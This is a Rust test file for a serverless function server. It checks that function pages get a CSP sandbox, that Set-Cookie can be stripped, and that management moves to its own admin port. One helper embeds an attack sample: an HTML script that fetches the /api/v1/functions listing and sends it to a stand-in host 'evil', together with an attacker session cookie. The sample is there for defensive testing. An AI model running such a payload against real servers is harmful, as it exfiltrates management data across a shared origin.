//! Functions share the server's origin (security issue row 14), as an attacker
//! would use it: a handler that answers HTML and sets cookies on the origin the
//! management API lives on. The server sandboxes every function response
//! (`Content-Security-Policy: sandbox`) unless the function opts out, can strip
//! `Set-Cookie`, and can move management to a listener of its own.

mod common;

use common::{Server, multipart, seed_bundle, zip};
use serde_json::json;

/// A JS handler that answers an HTML page with a script, sets a session cookie,
/// and (when `csp` is given) a policy of its own.
fn page_bundle(metadata_extra: &str, csp: Option<&str>) -> Vec<u8> {
    let metadata = format!(r#"{{"language":"js","entrypointFile":"page.js"{metadata_extra}}}"#);
    let csp = csp.map(|c| format!(".putHeader('Content-Security-Policy', '{c}')")).unwrap_or_default();
    let script = format!(
        "function handler(ctx) {{\n  ctx.response().putHeader('Content-Type', 'text/html')\
         .putHeader('Set-Cookie', 'session=attacker; Path=/'){csp}\
         .end('<script>fetch(\"/api/v1/functions\").then(r => r.text()).then(t => fetch(\"//evil/\" + t))</script>');\n}}\nhandler\n"
    );
    zip(&[("metadata.json", metadata.as_bytes()), ("page.js", script.as_bytes())])
}

/// A GET read off the wire, so that repeated headers are all seen (the HTTP
/// client keeps only the first of each name).
fn raw_get(server: &Server, path: &str) -> common::Reply {
    let stream = std::net::TcpStream::connect(&server.addr).unwrap();
    let request = format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    std::io::Write::write_all(&mut &stream, request.as_bytes()).unwrap();
    common::wire::read_response(&mut std::io::BufReader::new(stream), false)
}

fn csp_headers(reply: &common::Reply) -> Vec<String> {
    reply
        .headers
        .iter()
        .filter(|(n, _)| n.eq_ignore_ascii_case("content-security-policy"))
        .map(|(_, v)| v.clone())
        .collect()
}

#[test]
fn row14_function_pages_are_sandboxed_by_default_and_a_handlers_own_policy_is_kept() {
    let server = Server::start(&[]);
    assert_eq!(server.deploy("page", &page_bundle("", None)).status, 201);
    let r = raw_get(&server, "/fn/page");
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(r.text().contains("<script>"), "the page itself goes out: {}", r.text());
    let csp = csp_headers(&r);
    assert!(csp.iter().any(|v| v.trim() == "sandbox"), "no CSP sandbox on a function's page: {:?}", r.headers);

    // The original route too.
    let r = server.get("/api/v1/handler/page");
    assert!(csp_headers(&r).iter().any(|v| v.trim() == "sandbox"), "{:?}", r.headers);

    // A handler that sends its own policy (even one that tries to lift the
    // sandbox) keeps it, and the server's sandbox goes out beside it.
    let own = "sandbox allow-scripts allow-same-origin";
    assert_eq!(server.deploy("own-csp", &page_bundle("", Some(own))).status, 201);
    let csp = csp_headers(&raw_get(&server, "/fn/own-csp"));
    assert!(csp.iter().any(|v| v == own), "the handler's policy was dropped: {csp:?}");
    assert!(csp.iter().any(|v| v.trim() == "sandbox"), "the server's sandbox is missing: {csp:?}");
}

#[test]
fn row14_a_function_may_opt_out_of_the_sandbox_and_a_bad_opt_out_is_refused() {
    let server = Server::start(&[]);
    assert_eq!(server.deploy("site", &page_bundle(r#","sandboxResponses":false"#, None)).status, 201);
    let r = server.get("/fn/site");
    assert_eq!(r.status, 200);
    assert!(csp_headers(&r).is_empty(), "opted out, yet: {:?}", r.headers);
    // Without --strip-set-cookie the cookie is the handler's business.
    assert!(r.header("set-cookie").is_some_and(|c| c.starts_with("session=attacker")));

    let typo = server.deploy("typo", &page_bundle(r#","sandboxResponses":"no""#, None));
    assert_eq!((typo.status, typo.json()["code"].as_str()), (400, Some("invalid_bundle")), "{}", typo.text());
    let explicit = server.deploy("explicit", &page_bundle(r#","sandboxResponses":true"#, None));
    assert_eq!(explicit.status, 201);
    assert!(csp_headers(&server.get("/fn/explicit")).iter().any(|v| v == "sandbox"));
}

#[test]
fn row14_with_strip_set_cookie_no_cookie_reaches_the_client() {
    let server = Server::start(&["--strip-set-cookie"]);
    assert_eq!(server.deploy("page", &page_bundle("", None)).status, 201);
    // Even a function that opted out of the sandbox sets no cookie.
    assert_eq!(server.deploy("site", &page_bundle(r#","sandboxResponses":false"#, None)).status, 201);
    for path in ["/fn/page", "/fn/site/x", "/api/v1/handler/page"] {
        let r = server.get(path);
        assert_eq!(r.status, 200, "{path}: {}", r.text());
        assert!(r.header("set-cookie").is_none(), "{path}: a cookie reached the client: {:?}", r.headers);
        assert!(r.header("content-type").is_some_and(|t| t.starts_with("text/html")), "{path}: other headers stay");
    }

    // The same from the environment.
    let dir = tempfile::tempdir().unwrap();
    let env = Server::start_in(dir.path(), &[], &[("POLYFAAS_STRIP_SET_COOKIE", "true")]);
    assert_eq!(env.deploy("page", &page_bundle("", None)).status, 201);
    assert!(env.get("/fn/page").header("set-cookie").is_none());
}

/// Method, path, headers, body.
type Route<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)], &'a [u8]);

/// The admin listener's address, from the server's log.
fn admin_addr(server: &Server) -> String {
    let logs = server.logs();
    let line = logs.lines().find(|l| l.contains("admin listener http://")).expect("the admin listener is logged");
    line.split("admin listener http://").nth(1).and_then(|r| r.split_whitespace().next()).expect("address").to_string()
}

#[test]
fn row14_with_admin_listen_management_is_only_on_the_admin_port_and_invocation_only_on_the_main_one() {
    let server = Server::start(&["--admin-listen", "127.0.0.1:0"]);
    let admin = admin_addr(&server);
    assert_ne!(admin, server.addr);
    let on_admin = |method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]| {
        common::call(&format!("http://{admin}{path}"), method, headers, body)
    };

    // Management on the main port does not exist: 404 JSON, nothing deployed.
    let zip_type = [("content-type", "application/zip")];
    let bundle = page_bundle("", None);
    let main_routes: [Route; 7] = [
        ("PUT", "/api/v1/functions/page", &zip_type, &bundle),
        ("GET", "/api/v1/functions", &[], b""),
        ("GET", "/api/v1/functions/page", &[], b""),
        ("DELETE", "/api/v1/functions/page", &[], b""),
        ("POST", "/api/v1/functions/page/rollback", &[], b""),
        ("GET", "/admin/workers", &[], b""),
        ("GET", "/metrics", &[], b""),
    ];
    for (method, path, headers, body) in main_routes {
        let r = server.call(method, path, headers, body);
        assert_eq!((r.status, r.json()["code"].as_str()), (404, Some("not_found")), "{method} {path} on the main port");
    }
    let (content_type, upload) = multipart("rust-wasm.zip", &seed_bundle("rust-wasm.zip"));
    let r = server.call("POST", "/api/v1/handler/rust-wasm", &[("content-type", &content_type)], &upload);
    assert_eq!(r.status, 404, "the multipart upload route is management: {}", r.text());
    assert_eq!(server.get("/fn/page").status, 404, "nothing was deployed through the main port");

    // On the admin port management works, the original upload included...
    assert_eq!(on_admin("PUT", "/api/v1/functions/page", &zip_type, &bundle).status, 201);
    let r = on_admin("POST", "/api/v1/handler/rust-wasm", &[("content-type", &content_type)], &upload);
    assert_eq!(r.text(), r#"{"status":"ok","message":"Handler rust-wasm uploaded"}"#);
    assert_eq!(on_admin("GET", "/api/v1/functions", &[], b"").json()["functions"].as_array().map(Vec::len), Some(2));
    assert_eq!(on_admin("GET", "/metrics", &[], b"").status, 200);
    assert_eq!(on_admin("GET", "/admin/workers", &[], b"").json()["code"], json!("admin_disabled"), "no token: off");

    // ...and invoking there does not: a function's page never shares the admin origin.
    for (method, path) in [("GET", "/fn/page"), ("POST", "/fn/page/x"), ("GET", "/api/v1/handler/rust-wasm")] {
        let r = on_admin(method, path, &[], br#"{"name":"John"}"#);
        assert_eq!(
            (r.status, r.json()["code"].as_str()),
            (404, Some("not_found")),
            "{method} {path} on the admin port"
        );
    }

    // The main port invokes, by both the native and the original routes, and probes work on both.
    assert_eq!(server.get("/fn/page").status, 200);
    let r = server.call("GET", "/api/v1/handler/rust-wasm", &[], br#"{"name":"John"}"#);
    assert_eq!((r.status, r.json()), (200, json!({"name_twice": "John John"})));
    for path in ["/healthz", "/readyz"] {
        assert_ne!(server.get(path).status, 404, "{path} on the main port");
        assert_ne!(on_admin("GET", path, &[], b"").status, 404, "{path} on the admin port");
    }
}

#[test]
fn row14_without_admin_listen_the_original_routes_stay_on_the_one_port() {
    let server = Server::start(&[]);
    let (content_type, upload) = multipart("rust-wasm.zip", &seed_bundle("rust-wasm.zip"));
    let r = server.call("POST", "/api/v1/handler/rust-wasm", &[("content-type", &content_type)], &upload);
    assert_eq!(r.text(), r#"{"status":"ok","message":"Handler rust-wasm uploaded"}"#);
    let r = server.call("GET", "/api/v1/handler/rust-wasm", &[], br#"{"name":"John"}"#);
    assert_eq!((r.status, r.json()), (200, json!({"name_twice": "John John"})));
    assert_eq!(server.get("/metrics").status, 200);
    assert_eq!(server.get("/api/v1/functions").status, 200);
}
